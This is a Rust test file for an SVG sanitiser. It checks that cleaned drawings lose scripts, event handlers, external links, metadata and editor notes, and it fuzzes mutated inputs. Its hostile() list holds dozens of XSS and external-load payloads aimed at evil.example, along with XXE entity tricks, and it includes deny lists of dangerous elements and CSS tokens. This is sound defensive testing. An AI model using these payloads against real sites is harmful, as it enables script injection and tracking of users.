//! SVG drawings are reduced to what only draws. Another parser than the program's judges what is left.

use proptest::prelude::*;
use roxmltree::{Document, NodeType};

use crate::support::{Random, cases};
use samizdat::text::picture::{Cleaned, Format};

const SVG: &str = "http://www.w3.org/2000/svg";
const MARK: &str = "Zq Secretplace";

/// A drawing with this inside; it has a shape of its own, so that something is always left.
fn drawing(inside: &str) -> String {
    format!(
        "<svg xmlns=\"{SVG}\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" width=\"9\" height=\"9\">{inside}<rect width=\"9\" height=\"9\"/></svg>"
    )
}

fn clean(svg: &str) -> Result<(String, Vec<String>), &'static str> {
    let Cleaned { bytes, found } = Format::Svg.clean(svg.as_bytes()).map_err(|broken| broken.0)?;
    let again = Format::Svg.clean(&bytes).unwrap_or_else(|broken| panic!("{} of {svg}", broken.0));
    let text = String::from_utf8(bytes.clone()).unwrap();
    assert_eq!(String::from_utf8(again.bytes).unwrap(), text, "cleaning again changes it");
    assert!(again.found.removed.is_empty() && !again.found.has_metadata, "{:?} of {text}", again.found);
    Ok((text, found.removed))
}

/// What in a drawing could run, load or lead anywhere, as another parser sees it.
pub fn danger(svg: &str) -> Option<String> {
    let document = match Document::parse(svg) {
        Ok(document) => document,
        Err(error) => return Some(format!("not XML: {error}")),
    };
    let forbidden = [
        "script",
        "foreignObject",
        "a",
        "animate",
        "animateTransform",
        "animateMotion",
        "animateColor",
        "set",
        "mpath",
        "handler",
        "listener",
        "iframe",
        "embed",
        "object",
        "audio",
        "video",
        "canvas",
        "link",
        "meta",
        "base",
        "feImage",
        "view",
        "cursor",
        "font-face-uri",
        "metadata",
        "title",
        "desc",
        "discard",
        "prefetch",
        "tref",
        "use-external",
    ];
    for node in document.descendants() {
        match node.node_type() {
            NodeType::Comment | NodeType::PI => return Some("a comment or an instruction".to_owned()),
            NodeType::Text => {
                let parent = node.parent_element().map_or("", |it| it.tag_name().name());
                if parent == "style" && unsafe_css(node.text().unwrap_or("")) {
                    return Some(format!("style: {:?}", node.text()));
                }
            }
            NodeType::Element => {
                let name = node.tag_name();
                if name.namespace() != Some(SVG) || forbidden.contains(&name.name()) {
                    return Some(format!("element {name:?}"));
                }
                for attribute in node.attributes() {
                    let value: String =
                        attribute.value().chars().filter(|c| !c.is_whitespace()).collect::<String>().to_lowercase();
                    let picture = ["png", "jpeg", "gif", "webp"]
                        .iter()
                        .any(|it| value.starts_with(&format!("data:image/{it};base64,")));
                    let is_bad = match attribute.name() {
                        "href" => {
                            attribute.namespace().is_some()
                                || !(value.starts_with('#') || picture && name.name() == "image")
                        }
                        "space" => value != "preserve",
                        it => {
                            it.to_lowercase().starts_with("on") || attribute.namespace().is_some() || unsafe_css(&value)
                        }
                    };
                    if is_bad {
                        return Some(format!("attribute {}={value}", attribute.name()));
                    }
                }
            }
            NodeType::Root => {}
        }
    }
    None
}

/// Whether a style could load something.
fn unsafe_css(css: &str) -> bool {
    let css = css.to_lowercase();
    let squeezed: String = css.chars().filter(|c| !c.is_whitespace() && !"'\"".contains(*c)).collect();
    squeezed.matches("url(").count() != squeezed.matches("url(#").count()
        || [
            "\\",
            "@",
            "//",
            "javascript:",
            "expression(",
            "image(",
            "image-set",
            "src(",
            "cross-fade(",
            "-moz-binding",
            "/*",
            "data:",
            "http:",
            "https:",
        ]
        .iter()
        .any(|it| squeezed.contains(it))
}

/// Drawings that run or load something in some browser, or did. With `true` they are refused as a whole.
fn hostile() -> Vec<(&'static str, String, bool)> {
    let svg = |inside: &str| drawing(inside);
    let mut all: Vec<(&'static str, String, bool)> = vec![
        ("script", svg("<script>alert(1)</script>"), false),
        ("script in CDATA", svg("<script><![CDATA[alert(1)]]></script>"), false),
        ("script from elsewhere", svg("<script xlink:href='//evil.example/x.js'/>"), false),
        (
            "script with a prefix",
            format!("<svg xmlns='{SVG}' xmlns:s='{SVG}'><s:script>alert(1)</s:script><rect/></svg>"),
            false,
        ),
        (
            "everything with a prefix",
            format!("<q:svg xmlns:q='{SVG}'><q:script>alert(1)</q:script><q:rect/></q:svg>"),
            false,
        ),
        ("script of HTML", svg("<h:script xmlns:h='http://www.w3.org/1999/xhtml'>alert(1)</h:script>"), false),
        (
            "a prefix bound anew",
            svg(
                "<g xmlns:svg='u:x'><svg:g xmlns:svg='http://www.w3.org/2000/svg'><svg:script>alert(1)</svg:script></svg:g></g>",
            ),
            false,
        ),
        ("handler with spaces", svg("<rect onload = \"alert(1)\"/>"), false),
        ("handler with a break", svg("<rect onclick\n=\n'alert(1)'/>"), false),
        ("handler at the root", drawing("").replace("<svg", "<svg onload='alert(1)'"), false),
        ("handler in capitals", svg("<rect ONLOAD='alert(1)' onLoad='alert(1)'/>"), false),
        ("link with spaces", svg("<image xlink:href = \"http://evil.example/x.png\"/>"), false),
        ("link to a host", svg("<image href='//evil.example/x.png'/>"), false),
        ("link that runs", svg("<a xlink:href='javascript:alert(1)'><text>x</text></a>"), false),
        ("link that runs, with entities", svg("<a xlink:href='java&#115;cript:alert(1)'><text>x</text></a>"), false),
        ("link that runs, with a tab", svg("<a href='java&#9;script:alert(1)'><text>x</text></a>"), false),
        (
            "another name of xlink",
            svg("<use xmlns:l='http://www.w3.org/1999/xlink' l:href='data:image/svg+xml,x'/>"),
            false,
        ),
        ("use of another file", svg("<use href='other.svg#x'/>"), false),
        ("use of data", svg("<use href='data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x'/>"), false),
        ("picture in a picture", svg("<image href='data:image/svg+xml;base64,PHN2Zz48L3N2Zz4='/>"), false),
        ("picture that is a page", svg("<image href='data:image/png;base64,PGh0bWw+'/>"), false),
        (
            "animation of a link",
            svg("<a><animate attributeName='href' values='javascript:alert(1)'/><text>x</text></a>"),
            false,
        ),
        ("setting a link", svg("<a><set attributeName='href' to='javascript:alert(1)'/><text>x</text></a>"), false),
        ("setting a handler", svg("<set attributeName='onmouseover' to='alert(1)'/>"), false),
        (
            "HTML inside",
            svg(
                "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><iframe src='javascript:alert(1)'/></body></foreignObject>",
            ),
            false,
        ),
        (
            "HTML inside without its namespace",
            svg("<foreignObject><iframe src='javascript:alert(1)'/></foreignObject>"),
            false,
        ),
        ("import in a style sheet", svg("<style>@import url(//evil.example/x.css);</style>"), false),
        ("import with escapes", svg("<style>@\\69mport 'http://evil.example/x.css';</style>"), false),
        (
            "font in a style sheet",
            svg("<style>@font-face{font-family:x;src:url(http://evil.example/x)}</style>"),
            false,
        ),
        ("url in a style sheet", svg("<style>rect{fill:url(http://evil.example/x#y)}</style>"), false),
        ("url with a comment", svg("<style>rect{fill:u/**/rl(http://evil.example/x)}</style>"), false),
        ("url with an escape", svg("<style>rect{fill:ur\\6c(http://evil.example/x)}</style>"), false),
        ("a set of images", svg("<rect style='mask:image-set(\"http://evil.example/x\" 1x)'/>"), false),
        ("url in an attribute", svg("<rect fill='url(http://evil.example/x#y)'/>"), false),
        ("url of a host in an attribute", svg("<rect filter='url( //evil.example/x#y )'/>"), false),
        ("url in style", svg("<rect style='cursor:url(http://evil.example/x),auto;fill:red'/>"), false),
        ("url in style with entities", svg("<rect style='fill:u&#x72;l(http://evil.example/x)'/>"), false),
        ("url behind a good one", svg("<rect fill='url(#a) url(http://evil.example/x)'/>"), false),
        (
            "a function behind a letter of three bytes",
            svg("<rect fill='9\u{feff}image-set(\"//evil.example\")'/>"),
            false,
        ),
        ("picture of a filter", svg("<filter id='f'><feImage href='http://evil.example/x'/></filter>"), false),
        ("style sheet elsewhere", format!("<?xml-stylesheet href='http://evil.example/x.css'?>{}", drawing("")), false),
        (
            "style sheet that transforms",
            format!(
                "<?xml-stylesheet type='text/xsl' href='#x'?>{}",
                drawing("<xsl:stylesheet id='x' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'/>")
            ),
            false,
        ),
        ("base", drawing("").replace("<svg", "<svg xml:base='http://evil.example/'"), false),
        (
            "handler element",
            svg(
                "<ev:listener xmlns:ev='http://www.w3.org/2001/xml-events' event='load' handler='#x'/><handler id='x'>alert(1)</handler>",
            ),
            false,
        ),
        ("entities", format!("<!DOCTYPE svg [<!ENTITY x 'alert(1)'>]>{}", drawing("<script>&x;</script>")), true),
        (
            "entities from elsewhere",
            format!("<!DOCTYPE svg [<!ENTITY % x SYSTEM 'http://evil.example/x'> %x;]>{}", drawing("")),
            true,
        ),
        ("an entity that is not there", svg("<text>&secret;</text>"), true),
        (
            "another root",
            format!("<html xmlns='http://www.w3.org/1999/xhtml'><svg xmlns='{SVG}'><rect/></svg></html>"),
            true,
        ),
        ("two roots", format!("{0}{0}", drawing("")), true),
        ("no namespace", "<svg><rect/></svg>".to_owned(), true),
        ("an element that is not closed", format!("<svg xmlns='{SVG}'><rect/>"), true),
        ("another encoding", format!("<?xml version='1.0' encoding='utf-7'?>{}", drawing("+ADw-script+AD4-")), true),
        ("nothing left", format!("<svg xmlns='{SVG}'><script>alert(1)</script></svg>"), true),
        (
            "nothing but a picture from elsewhere",
            format!("<svg xmlns='{SVG}'><image href='http://evil.example/x.png'/></svg>"),
            true,
        ),
    ];
    all.push(("nested deeply", drawing(&("<g>".repeat(100_000) + &"</g>".repeat(100_000))), true));
    all.push((
        "ten thousand attributes",
        drawing(&format!("<g {}/>", (0..10_000).map(|it| format!("a{it}='x' ")).collect::<String>())),
        true,
    ));
    all
}

#[test]
fn hostile_drawings_are_refused_or_run_and_load_nothing() {
    for (case, svg, is_refused) in hostile() {
        match clean(&svg) {
            Err(reason) => assert!(is_refused && !reason.is_empty(), "{case}: {reason}"),
            Ok((out, removed)) => {
                assert!(!is_refused, "{case}: {out}");
                assert_eq!(danger(&out), None, "{case}: {out}");
                assert!(!out.contains("evil.example") && !out.contains("alert"), "{case}: {out}");
                let is_silent = ["base", "animation of a link"].contains(&case);
                assert!(is_silent || !removed.is_empty(), "{case}: nothing is said about what is left out");
            }
        }
    }
    // In UTF-16 a search for words finds nothing.
    let wide: Vec<u8> = drawing("<script>alert(1)</script>").encode_utf16().flat_map(u16::to_le_bytes).collect();
    assert!(Format::Svg.clean(&[&[0xff, 0xfe], &wide[..]].concat()).is_err());
    assert!(Format::Svg.clean(&wide).is_err());
    assert!(danger(&drawing("<script/>")).is_some() && danger(&drawing("<rect style='fill:url(//x)'/>")).is_some());
}

#[test]
fn drawings_lose_comments_editors_notes_and_names_of_layers() {
    let svg = format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!-- {MARK} --><!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">
<svg xmlns=\"{SVG}\" xmlns:i=\"http://www.inkscape.org/namespaces/inkscape\" xmlns:s=\"http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd\"
 xmlns:xlink=\"http://www.w3.org/1999/xlink\" viewBox=\"0 0 9 9\" s:docname=\"{MARK}.svg\" i:export-filename=\"/home/zq/{MARK}.png\" id=\"{MARK}\" data-x=\"{MARK}\">
<title>{MARK}</title><desc>{MARK}</desc><metadata><rdf:RDF xmlns:rdf=\"u:r\">{MARK}</rdf:RDF></metadata><s:namedview inkscape=\"{MARK}\"/>
<defs><linearGradient id=\"shade\"><stop offset=\"0\" style=\"stop-color:#ff0000;-inkscape-x:'{MARK}'\"/></linearGradient></defs>
<style>/* {MARK} */ .a, #used {{ fill: url(#shade); stroke : RED }} text{{font-family:'Noto Sans',serif}}</style>
<g id=\"Layer-{layer}\" i:label=\"{MARK}\" class=\"a\" aria-label=\"{MARK}\">
<path id=\"used\" d=\"M0,0 L 9-9z\" transform=\"matrix(1 0 0 1 .5 -.5) rotate(3,4,5)\" style=\"fill:url(#shade);stroke-width:2px\"/>
<use xlink:href=\"#used\" x=\"1\"/><text x=\"1\" xml:space=\"preserve\">A &lt;b&gt; &#233; <tspan dy=\"1em\">two</tspan><a href=\"http://x.example\">three</a></text></g>
{MARK}</svg>",
        layer = MARK.replace(' ', "-"),
    );
    let (out, removed) = clean(&svg).unwrap();
    assert_eq!(danger(&out), None);
    assert!(!out.contains("Secretplace") && !out.contains("inkscape") && !out.contains("sodipodi"), "{out}");
    for kept in [
        "viewBox=\"0 0 9 9\"",
        "<linearGradient id=\"shade\"><stop offset=\"0\" style=\"stop-color:#ff0000\"/></linearGradient>",
        "<style>.a, #used{fill:url(#shade);stroke:RED}text{font-family:&apos;Noto Sans&apos;,serif}</style>",
        "<path id=\"used\" d=\"M0,0 L 9-9z\" transform=\"matrix(1 0 0 1 .5 -.5) rotate(3,4,5)\" style=\"fill:url(#shade);stroke-width:2px\"/>",
        "<use href=\"#used\" x=\"1\"/>",
        "<text x=\"1\" xml:space=\"preserve\">A &lt;b&gt; é <tspan dy=\"1em\">two</tspan><tspan>three</tspan></text>",
    ] {
        assert!(out.contains(kept), "{kept} in {out}");
    }
    assert_eq!(removed, ["`<a>`", "links to elsewhere"]);
}

#[test]
fn pictures_inside_drawings_are_cleaned_as_well() {
    use samizdat::text::base64::encode;
    let png = std::fs::read(crate::support::repository().join("tests/data/pictures/plain.png")).unwrap();
    let with_text = [&png[..], MARK.as_bytes()].concat();
    let (out, removed) =
        clean(&drawing(&format!("<image width='9' xlink:href='data:image/jpg;base64,{}'/>", encode(&with_text))))
            .unwrap();
    assert!(out.contains(&format!("<image width=\"9\" href=\"data:image/png;base64,{}\"/>", encode(&png))), "{out}");
    assert!(removed.is_empty() && danger(&out).is_none());
}

proptest! {
    #![proptest_config(cases(30_000, 600))]

    #[test]
    fn mutated_drawings_are_refused_or_run_and_load_nothing(seed in any::<u64>()) {
        let mut random = Random(seed);
        let all = hostile();
        let mut svg = random.pick(&all[..all.len() - 2]).1.clone();
        let pieces = [
            "<script>alert(1)</script>", " onload='x'", "<![CDATA[", "]]>", "<!--", "-->", "&#x3c;", "&lt;", "url(", "url(#a)", "//e.example", "javascript:",
            " href='#a'", " href='//e'", "<style>", "</style>", "@import 'x';", "{", "}", "\\", "/*", "*/", ";", "'", "\"", "<g>", "</g>", "<a>", "</a>",
            "<image href='", "xmlns:x='http://www.w3.org/2000/svg'", "<x:script/>", "<text>", "</text>", " id='a'", " style='fill:red'", "fill:url(", "#a{",
            "image-set('x')", "\u{feff}", "\r\n", "\t", "&#13;", "\u{85}", "é", "<?x?>", " xlink:href='#a'", "xml:space='preserve'", ".a,b>c{fill:url(#a)}",
        ];
        for _ in 0..1 + random.below(8) {
            let places: Vec<usize> = svg.char_indices().map(|(at, _)| at).collect();
            let Some(&at) = places.get(random.below(places.len().max(1))) else { break };
            match random.below(4) {
                0 => _ = svg.remove(at),
                1 => {
                    let end = svg[at..].char_indices().map(|(length, _)| at + length).nth(random.below(20)).unwrap_or(svg.len());
                    svg.replace_range(at..end, "");
                }
                _ => svg.insert_str(at, random.pick::<&str>(&pieces)),
            }
        }
        if let Ok((out, _)) = clean(&svg) {
            prop_assert_eq!(danger(&out), None, "{}\n{}", svg, out);
        }
    }
}
